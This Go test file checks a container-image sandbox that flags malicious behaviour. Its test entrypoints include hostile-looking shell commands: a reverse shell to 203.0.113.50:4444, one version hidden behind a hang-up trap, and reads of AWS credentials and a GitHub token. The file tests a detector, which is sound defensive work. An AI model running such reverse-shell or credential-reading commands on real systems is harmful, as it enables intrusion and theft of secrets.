package sandbox_test

import (
	"archive/tar"
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"errors"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	goruntime "runtime"
	"slices"
	"strings"
	"testing"
	"time"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/prometheus/client_golang/prometheus"
	"github.com/prometheus/client_golang/prometheus/testutil"

	"github.com/sallyport-dev/sallyport/demo"
	"github.com/sallyport-dev/sallyport/image"
	"github.com/sallyport-dev/sallyport/report"
	"github.com/sallyport-dev/sallyport/sandbox"
	"github.com/sallyport-dev/sallyport/sandbox/event"
	"github.com/sallyport-dev/sallyport/sandbox/judge"
	"github.com/sallyport-dev/sallyport/sandbox/observation"
	"github.com/sallyport-dev/sallyport/sandbox/protocol"
	"github.com/sallyport-dev/sallyport/sandbox/rootfs"
	"github.com/sallyport-dev/sallyport/test/samples"
)

func buildSpec(t *testing.T, spec samples.Spec) v1.Image {
	t.Helper()
	return build(t, samples.Sample{Name: t.Name(), Image: spec})
}

func shell(text string) samples.Spec {
	return samples.Spec{Entrypoint: []string{"/bin/sh", "-c", text}}
}

var request = sandbox.Request{Reference: image.Reference{Registry: "samples.test", Repository: "x", Tag: "v1"}}

func TestDemonstration(t *testing.T) {
	t.Parallel()
	r := newRunner(t, nil)
	images, err := demo.Images(goruntime.GOARCH)
	if err != nil {
		t.Fatal(err)
	}
	for _, im := range images {
		t.Run(im.Repository, func(t *testing.T) {
			rep := run(t, r, im.Repository, im.Image).Report
			has := slices.ContainsFunc(rep.Findings, func(f report.Finding) bool { return f.Slug == "reverse-shell" && f.Malicious })
			if im.Malicious && (rep.Verdict != report.Malicious || !has) {
				t.Errorf("%s, findings %+v", rep.Verdict, rep.Findings)
			}
			if !im.Malicious && (rep.Verdict != report.Clean || len(rep.Findings) > 0) {
				t.Errorf("%s, findings %+v", rep.Verdict, rep.Findings)
			}
			if !im.Malicious && !slices.Equal(rep.Run.Coverage.PortsProbed, []int{demo.Port}) {
				t.Errorf("probed ports %v", rep.Run.Coverage.PortsProbed)
			}
		})
	}
}

func TestServerEndsWhenItOnlyWaits(t *testing.T) {
	t.Parallel()
	r := newRunner(t, nil)
	spec := samples.Spec{Entrypoint: []string{"/bin/actor", "webserver", "8080"}}
	rep := run(t, r, "web", buildSpec(t, spec)).Report
	// That it ended before its window is in the report: a busy machine needs longer.
	if c := rep.Run.Coverage; c.FullWindow || !c.RanEntrypoint || !slices.Equal(c.PortsProbed, []int{8080}) {
		t.Errorf("coverage %+v", c)
	}
	if !strings.Contains(rep.Run.Reason, "only waited") || rep.Run.Exit != nil || rep.Run.Status != observation.Completed {
		t.Errorf("run %+v", rep.Run)
	}
}

// TestLateServerIsWaitedFor: it listens at once, and long after that takes connections.
func TestLateServerIsWaitedFor(t *testing.T) {
	t.Parallel()
	spec := samples.Spec{Entrypoint: []string{"/bin/actor", "late-server", "8080", "12s"}}
	o := run(t, newRunner(t, nil), "late", buildSpec(t, spec))
	for _, f := range o.Passes[0].Observation.Network.Flows {
		if f.Inbound && strings.Contains(f.Out, "It works") {
			return
		}
	}
	t.Errorf("nobody got its page: %+v", o.Passes[0].Observation.Network.Flows)
}

func TestWorkingGuestIsNotIdle(t *testing.T) {
	for name, text := range map[string]string{
		"computes without a system call":       "while :; do :; done",
		"starts programs":                      "while :; do sleep 0.3; done",
		"talks now and then on one connection": "nc talk.example.test 9999 </tmp/words & while :; do sleep 0.2; echo word; done >/tmp/words",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := newRunner(t, func(c *sandbox.Config) { c.Idle, c.Timeout = 2*time.Second, 7*time.Second })
			rep := run(t, r, "busy", buildSpec(t, shell(text))).Report
			if rep.Run.Status != observation.Timeout || !rep.Run.Coverage.FullWindow {
				t.Errorf("it was cut short: %+v", rep.Run)
			}
		})
	}
}

func TestTimeoutOfTheRequest(t *testing.T) {
	r := newRunner(t, nil)
	req := request
	req.Profile.Timeout = 1500 * time.Millisecond
	var limit time.Duration
	o, err := r.Run(t.Context(), buildSpec(t, shell("while :; do :; done")), req, func(s protocol.RunState) {
		if s.State == protocol.Running {
			limit = s.Limit
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	defer o.Close()
	if d := o.Report.Run.DurationS; d < 1.4 || d > 30 || limit != req.Profile.Timeout {
		t.Errorf("it ran %v s, the announced limit was %v", d, limit)
	}
}

// TestAnImageGetsTheVariablesThatItAsksFor: one after the other, as an
// entrypoint finds out that they are missing.
func TestAnImageGetsTheVariablesThatItAsksFor(t *testing.T) {
	t.Parallel()
	o := run(t, newRunner(t, nil), "database", buildSpec(t, shell(": ${DB_PASSWORD:?}; : ${LICENCE_KEY:?}; exec actor webserver 5432")))
	c := o.Report.Run.Coverage
	var names []string
	for _, p := range c.Passes {
		names = append(names, p.Name)
	}
	if !slices.Equal(names, []string{"default", "completion", "completion-2"}) || !slices.Equal(o.Report.Run.Passes, names) {
		t.Fatalf("passes %+v", c.Passes)
	}
	if last := c.Passes[2]; c.Passes[0].Exit == nil || c.Passes[0].Exit.Code == 0 || last.Exit != nil || !strings.Contains(last.Why, "LICENCE_KEY") {
		t.Errorf("passes %+v", c.Passes)
	}
	if o.Report.Verdict != report.Clean || !slices.Equal(c.PortsProbed, []int{5432}) {
		t.Errorf("%s: %s, coverage %+v", o.Report.Verdict, o.Report.Summary, c)
	}
	// Events go on with their numbers, and say whose they are.
	rd, err := o.Artifact(protocol.Events)
	if err != nil {
		t.Fatal(err)
	}
	defer rd.Close()
	gz, err := gzip.NewReader(rd)
	if err != nil {
		t.Fatal(err)
	}
	dec, last, passes := json.NewDecoder(gz), uint64(0), map[string]int{}
	for dec.More() {
		var e struct {
			Pass string `json:"pass"`
			Seq  uint64 `json:"seq"`
		}
		if err := dec.Decode(&e); err != nil {
			t.Fatal(err)
		}
		if e.Seq <= last {
			t.Fatalf("event %d of the pass %q follows event %d", e.Seq, e.Pass, last)
		}
		last = e.Seq
		passes[e.Pass]++
	}
	if len(passes) != 3 || passes[""] == 0 || passes["completion-2"] == 0 {
		t.Errorf("events by pass: %v", passes)
	}
}

func TestAnImageThatAsksWithoutEnd(t *testing.T) {
	t.Parallel()
	text := `n=$(env | grep -c '^PART_NUMBER_'); echo "PART_NUMBER_$n is not set" >&2; exit 1`
	rep := run(t, newRunner(t, nil), "asking", buildSpec(t, shell(text))).Report
	if c := rep.Run.Coverage; rep.Verdict != report.Inconclusive || len(c.Passes) != 4 || len(c.Skipped) != 1 {
		t.Errorf("%s, passes %+v, skipped %+v", rep.Verdict, c.Passes, c.Skipped)
	}
}

// TestAGuestThatWasProvedNeedNotGoOn: its time is a minute, and it would use it.
func TestAGuestThatWasProvedNeedNotGoOn(t *testing.T) {
	t.Parallel()
	rep := run(t, newRunner(t, nil), "busy", buildSpec(t, shell("actor reverse-shell 203.0.113.50:4444 & while :; do :; done"))).Report
	if rep.Verdict != report.Malicious || rep.Run.Status != observation.Completed || rep.Run.Coverage.FullWindow || !strings.Contains(rep.Run.Reason, "proof") {
		t.Errorf("%s, run %+v", rep.Verdict, rep.Run)
	}
}

func TestSomeShowWhatTheyAreWhenTheyAreToldToHangUp(t *testing.T) {
	t.Parallel()
	rep := run(t, newRunner(t, nil), "daemon", buildSpec(t, shell("trap 'exec actor reverse-shell 203.0.113.50:4444' HUP; actor webserver 4000 & wait"))).Report
	if rep.Verdict != report.Malicious || len(rep.Run.Passes) != 1 {
		t.Errorf("%s, run %+v", rep.Verdict, rep.Run)
	}
}

func TestAGuestMayEndWhenItIsToldToHangUp(t *testing.T) {
	t.Parallel()
	rep := run(t, newRunner(t, nil), "settings", buildSpec(t, shell("trap 'echo ended; exit 3' HUP; actor webserver 4000 & wait"))).Report
	if rep.Verdict != report.Clean || rep.Run.Exit != nil || rep.Run.Coverage.FullWindow || !strings.Contains(rep.Run.Reason, "hang up") {
		t.Errorf("%s: %s, run %+v", rep.Verdict, rep.Summary, rep.Run)
	}
}

func TestSilentPortsAreTold(t *testing.T) {
	t.Parallel()
	spec := samples.Spec{Entrypoint: []string{"/bin/actor", "webserver", "8080"}, Ports: []string{"8080/tcp", "9090/tcp"}}
	c := run(t, newRunner(t, nil), "half", buildSpec(t, spec)).Report.Run.Coverage
	if !slices.Equal(c.PortsProbed, []int{8080}) || !slices.Equal(c.PortsSilent, []int{9090}) {
		t.Errorf("coverage %+v", c)
	}
}

func TestStates(t *testing.T) {
	r := newRunner(t, nil)
	var states []string
	o, err := r.Run(t.Context(), buildSpec(t, shell("exit 3")), request, func(s protocol.RunState) { states = append(states, s.State) })
	if err != nil {
		t.Fatal(err)
	}
	defer o.Close()
	if want := []string{protocol.Unpacking, protocol.Running, protocol.Judging}; !slices.Equal(states, want) {
		t.Errorf("it went through %v, not %v", states, want)
	}
	if e := o.Report.Run.Exit; e == nil || e.Code != 3 || !o.Report.Run.Coverage.FullWindow {
		t.Errorf("run %+v", o.Report.Run)
	}
	if o.Report.ID == "" || o.Report.Tool.Version != "test" {
		t.Errorf("scan id %q, tool %+v", o.Report.ID, o.Report.Tool)
	}
}

func TestArtifactsLastUntilClose(t *testing.T) {
	o, err := newRunner(t, nil).Run(t.Context(), buildSpec(t, shell("wget -q -O /srv/page http://www.example.test/; rm /etc/os-release")), request, nil)
	if err != nil {
		t.Fatal(err)
	}
	started := false
	log, err := gzip.NewReader(open(t, o, protocol.Events))
	if err != nil {
		t.Fatal(err)
	}
	lines := bufio.NewScanner(log)
	for lines.Scan() {
		var e event.Event
		if err := json.Unmarshal(lines.Bytes(), &e); err != nil {
			t.Fatal(err)
		}
		started = started || e.Kind == event.Start
	}
	if !started {
		t.Error("the events do not tell of the first process")
	}
	magic := make([]byte, 4)
	if _, err := io.ReadFull(open(t, o, protocol.PCAP), magic); err != nil || !bytes.Equal(magic, []byte{0xd4, 0xc3, 0xb2, 0xa1}) {
		t.Errorf("the capture begins with %x (%v)", magic, err)
	}
	diff := map[string]byte{}
	for r := tar.NewReader(open(t, o, protocol.FSDiff)); ; {
		h, err := r.Next()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		diff[strings.TrimPrefix(h.Name, ".")] = h.Typeflag
	}
	if diff["/srv/page"] != tar.TypeReg || diff["/etc/os-release"] != tar.TypeChar {
		t.Errorf("the difference holds %v", diff)
	}
	if _, err := o.Artifact("../lock"); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("another name gives %v", err)
	}
	for range 2 {
		if err := o.Close(); err != nil {
			t.Error(err)
		}
	}
	if _, err := o.Artifact(protocol.Events); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("after Close: %v", err)
	}
}

func open(t *testing.T, o *sandbox.Outcome, name string) io.Reader {
	t.Helper()
	f, err := o.Artifact(name)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

func TestTheImagesOwnFilesStay(t *testing.T) {
	spec := shell("cat /root/.aws/credentials; echo $GITHUB_TOKEN; echo $HOME")
	spec.Files = map[string]string{"/root/.aws/credentials": "mine\n"}
	spec.Env = []string{"GITHUB_TOKEN=my-token"}
	o := run(t, newRunner(t, nil), "own", buildSpec(t, spec))
	if out := o.Passes[0].Observation.Run.Stdout; out != "mine\nmy-token\n/root\n" {
		t.Errorf("the guest saw %q", out)
	}
	for _, f := range slices.Concat(o.Passes[0].Observation.Files.Created, o.Passes[0].Observation.Files.Modified) {
		t.Errorf("the guest did nothing, but %s differs", f.Path)
	}
}

func TestTheGuestTrustsTheSimulatedInternet(t *testing.T) {
	o := run(t, newRunner(t, nil), "tls", buildSpec(t, samples.Spec{Entrypoint: []string{"/bin/actor", "http-get", "https://secure.example.test/x"}}))
	if !slices.ContainsFunc(o.Passes[0].Observation.Network.HTTP, func(h observation.HTTP) bool { return h.TLS && h.Host == "secure.example.test" }) {
		t.Errorf("no request within TLS, stdout %q", o.Passes[0].Observation.Run.Stdout)
	}
}

func TestCancelledRunLeavesNothing(t *testing.T) {
	r := newRunner(t, nil)
	ctx, cancel := context.WithCancel(t.Context())
	o, err := r.Run(ctx, buildSpec(t, shell("while :; do :; done")), request, func(s protocol.RunState) {
		if s.State == protocol.Running {
			time.AfterFunc(time.Second, cancel)
		}
	})
	if o != nil || !errors.Is(err, context.Canceled) {
		t.Errorf("got %v, %v", o, err)
	}
}

func TestWaitingForARunEndsWithItsContext(t *testing.T) {
	r := newRunner(t, func(c *sandbox.Config) { c.Concurrency = 1 })
	ctx, cancel := context.WithCancel(t.Context())
	img := buildSpec(t, shell("while :; do :; done"))
	running, ended := make(chan struct{}), make(chan error, 1)
	go func() {
		_, err := r.Run(ctx, img, request, func(s protocol.RunState) {
			if s.State == protocol.Running {
				close(running)
			}
		})
		ended <- err
	}()
	<-running
	short, stop := context.WithTimeout(t.Context(), 200*time.Millisecond)
	defer stop()
	if _, err := r.Run(short, img, request, nil); !errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("a second run gives %v", err)
	}
	cancel()
	if err := <-ended; !errors.Is(err, context.Canceled) {
		t.Errorf("the first run gives %v", err)
	}
}

// panics stands for a fault in our own code: even then nothing may stay.
type panics struct{}

func (panics) Ruleset() string { return "" }
func (panics) Judge(context.Context, *observation.Observation) (judge.Judgement, error) {
	panic("a fault")
}

func TestPanicLeavesNothing(t *testing.T) {
	r := newRunner(t, func(c *sandbox.Config) { c.Judge = panics{} })
	defer func() {
		if recover() == nil {
			t.Error("the fault was hidden")
		}
	}()
	_, _ = r.Run(t.Context(), buildSpec(t, shell("true")), request, nil)
}

// lying is an image with a layer that is not what the configuration says.
func lying(t *testing.T) v1.Image {
	t.Helper()
	img := buildSpec(t, shell("true"))
	cf, err := img.ConfigFile()
	if err != nil {
		t.Fatal(err)
	}
	cf = cf.DeepCopy()
	cf.RootFS.DiffIDs[0].Hex = strings.Repeat("0", 64)
	img, err = mutate.ConfigFile(img, cf)
	if err != nil {
		t.Fatal(err)
	}
	return img
}

func TestLayerThatIsNotWhatItsDigestSays(t *testing.T) {
	o, err := newRunner(t, nil).Run(t.Context(), lying(t), request, nil)
	var le *rootfs.LayerError
	if o != nil || !errors.As(err, &le) || !strings.Contains(err.Error(), "samples.test/x:v1") {
		t.Errorf("got %v, %v", o, err)
	}
}

func TestImageThatIsTooLarge(t *testing.T) {
	r := newRunner(t, func(c *sandbox.Config) { c.Unpack.Entries = 5 })
	rep := run(t, r, "large", buildSpec(t, shell("true"))).Report
	if rep.Verdict != report.Inconclusive || !strings.Contains(rep.Summary+rep.Run.Reason, "larger than") {
		t.Errorf("%s: %q, %q", rep.Verdict, rep.Summary, rep.Run.Reason)
	}
}

func TestNewNeedsAFolderItCanUse(t *testing.T) {
	file := filepath.Join(t.TempDir(), "file")
	if err := os.WriteFile(file, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	for name, cfg := range map[string]sandbox.Config{
		"none": {Judge: panics{}}, "a file": {Judge: panics{}, Dir: file}, "no judge": {Dir: t.TempDir()},
	} {
		if _, err := sandbox.New(cfg); err == nil {
			t.Errorf("%s: it was taken", name)
		}
	}
}

func TestMetrics(t *testing.T) {
	reg := prometheus.NewRegistry()
	r := newRunner(t, func(c *sandbox.Config) { c.Metrics = reg })
	run(t, r, "counted", buildSpec(t, shell("true")))
	want := "# HELP sallyport_sandbox_runs_total Runs that ended, by verdict.\n# TYPE sallyport_sandbox_runs_total counter\nsallyport_sandbox_runs_total{verdict=\"clean\"} 1\n"
	if err := testutil.GatherAndCompare(reg, strings.NewReader(want), "sallyport_sandbox_runs_total"); err != nil {
		t.Error(err)
	}
}
